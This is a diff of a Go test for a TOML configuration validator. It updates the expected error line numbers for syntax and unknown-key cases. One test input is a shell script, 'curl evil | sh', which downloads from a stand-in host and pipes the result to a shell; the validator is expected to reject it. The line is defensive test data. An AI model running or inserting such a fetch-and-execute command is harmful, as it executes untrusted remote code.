@@ -107,8 +107,8 @@ func TestValidateBroken(t *testing.T) {
 		src  string
 		want []string
 	}{
-		"syntax":       {strings.Replace(good, "[failover]", "[failover", 1), []string{"-:56: TOML syntax"}},
-		"unknown key":  {strings.Replace(good, "check_grace", "chek_grace", 1), []string{`-:57: failover.chek_grace: unknown key (did you mean "check_grace"?)`}},
+		"syntax":       {strings.Replace(good, "[failover]", "[failover", 1), []string{"-:57: TOML syntax"}},
+		"unknown key":  {strings.Replace(good, "check_grace", "chek_grace", 1), []string{`-:58: failover.chek_grace: unknown key (did you mean "check_grace"?)`}},
 		"wrong type":   {strings.Replace(good, "volume_id = 3001", `volume_id = "3001"`, 1), []string{"-:39: hcloud.volume_id: wrong type: want integer, got string"}},
 		"shebang":      {"#!/bin/bash\ncurl evil | sh\n", []string{`-: line 1: starts with "#!"`}},
 		"cloud-config": {"#cloud-config\n" + good, []string{`"#cloud-config"`}},
